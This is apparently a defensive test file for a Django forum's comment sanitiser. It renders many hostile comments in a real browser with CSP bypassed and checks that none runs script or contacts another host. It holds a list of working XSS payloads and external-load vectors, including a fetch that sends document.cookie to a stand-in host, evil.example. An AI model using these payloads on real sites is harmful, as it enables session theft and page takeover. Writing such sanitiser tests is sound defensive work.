"""Hostile comments posted through the site are harmless in a real browser, even with CSP switched off.

At least 150 comments (the sanitiser tests' list and the combinations below)
are posted through the comment form's view, then the article page is opened in
Chromium as their author (so held ones show too) with the Content Security
Policy bypassed: the sanitiser alone must hold. Every element is focused and
hovered; no dialog opens, no script changes the page, no request leaves for
another host.
"""

from urllib.parse import urlsplit

from django.test import Client

from forum.models import Comment
from tests.factories import ArticleFactory, CategoryFactory, UserFactory
from tests.forum.test_sanitize import HOSTILE

EVIL = "http://evil.example"
ACTIONS = ["alert(1)", "window.pwned=1", f"fetch('{EVIL}/steal?c='+document.cookie)", "document.title='pwned'"]
VECTORS = [
    '<img src=x onerror="{js}">',
    "<svg onload={js}>",
    '<a href="javascript:{js}">click</a>',
    '<a href="JaVaScRiPt:{js}">click</a>',
    '<a href="jav&#x09;ascript:{js}">click</a>',
    '<a href="&#106;avascript:{js}">click</a>',
    '<a href=" javascript:{js}">click</a>',
    '<a title="x" onmouseover="{js}">hover me</a>',
    '<b tabindex=1 autofocus onfocus="{js}">focus me</b>',
    '<details open ontoggle="{js}">x</details>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<form><button formaction="javascript:{js}">go</button></form>',
    '<input autofocus onfocus="{js}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<a href="data:text/html,<script>{js}</script>">data</a>',
    '"><script>{js}</script>',
    "<scr<script>ipt>{js}</scr</script>ipt>",
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<a href="vbscript:{js}">vb</a>',
    '<object data="javascript:{js}"></object>',
    '<i onpointerenter="{js}">pointer</i>',
    '<a href="#" onclick="{js}" onauxclick="{js}">both</a>',
    '<svg><a xlink:href="javascript:{js}"><text y="20">svg link</text></a></svg>',
    "<!--><img src=x onerror={js}>-->",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    '<b/onmouseover={js}>slash</b>',
    '<a href="java\nscript:{js}">newline</a>',
    '<a href="\x01javascript:{js}">control</a>',
]
LOADS = [
    f'<img src="{EVIL}/pixel.png">',
    f'<img srcset="{EVIL}/a.png 1x">',
    f'<link rel=stylesheet href="{EVIL}/x.css">',
    f'<style>@import "{EVIL}/x.css"; body{{background:url({EVIL}/bg.png)}}</style>',
    f'<b style="background:url({EVIL}/b.png)">styled</b>',
    f'<base href="{EVIL}/">',
    f'<video poster="{EVIL}/p.png"><source src="{EVIL}/v.mp4"></video>',
    f'<audio src="{EVIL}/a.mp3" autoplay></audio>',
    f'<embed src="{EVIL}/e.swf">',
    f'<svg><image href="{EVIL}/i.png"/></svg>',
    f'<input type=image src="{EVIL}/in.png">',
    f'<table background="{EVIL}/t.png"><tr><td>x</td></tr></table>',
    f'<script src="{EVIL}/x.js"></script>',
    f'<iframe src="{EVIL}/frame"></iframe>',
]
PAYLOADS = list(dict.fromkeys(
    [vector.format(js=js) for vector in VECTORS for js in ACTIONS] + LOADS + [case for case in HOSTILE]
))


def test_enough_hostile_payloads():
    assert len(PAYLOADS) >= 150


def test_hostile_comments_do_nothing_in_a_real_browser(browser, live_server, settings, db):
    settings.FORUM_RATE_LIMITS = {**settings.FORUM_RATE_LIMITS, "post": "100000/h"}
    settings.SESSION_COOKIE_SECURE = settings.CSRF_COOKIE_SECURE = False
    article = ArticleFactory(category=CategoryFactory(), title="Hostile thread", slug="hostile")
    author = UserFactory(display_name="Mallory")
    client = Client()
    client.force_login(author)
    for number, payload in enumerate(PAYLOADS):
        client.post(article.get_comments_url(), {"text": f"{payload} #{number}"})
    stored = Comment.objects.filter(article=article).count()
    assert stored >= 150, stored

    context = browser.new_context(base_url=live_server.url, bypass_csp=True)
    context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value,
                          "url": live_server.url}])
    page = context.new_page()
    dialogs, foreign = [], []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    own_host = urlsplit(live_server.url).netloc
    page.on("request", lambda request: foreign.append(request.url)
            if urlsplit(request.url).netloc not in ("", own_host) and not request.url.startswith("data:") else None)
    page.goto(article.get_absolute_url())
    assert page.locator("article.comment").count() == stored

    # Every element in the thread: focused and given every mouse and focus event, then really hovered.
    page.evaluate("""() => {
        for (const el of document.querySelectorAll('#comments *')) {
            for (const type of ['mouseover', 'mouseenter', 'mousemove', 'pointerenter', 'pointerover']) {
                el.dispatchEvent(new MouseEvent(type, {bubbles: true}));
            }
            if (el.focus) el.focus();
            el.dispatchEvent(new FocusEvent('focus'));
        }
    }""")
    for element in page.locator(".comment__body *").all():
        box = element.bounding_box()
        if box and box["width"] and box["height"]:
            page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.wait_for_timeout(500)

    assert dialogs == []
    assert foreign == []
    assert page.title().startswith("Hostile thread")
    assert page.evaluate("() => window.pwned") is None
    assert page.locator(".comment__body script, .comment__body iframe, .comment__body img, "
                        ".comment__body [onerror], .comment__body [style]").count() == 0

    # The harness itself notices a script when one does run.
    page.evaluate("""() => {
        const img = document.createElement('img');
        img.setAttribute('onerror', 'window.pwned = 1');
        img.src = 'x';
        document.body.append(img);
    }""")
    page.wait_for_function("() => window.pwned === 1")
    context.close()
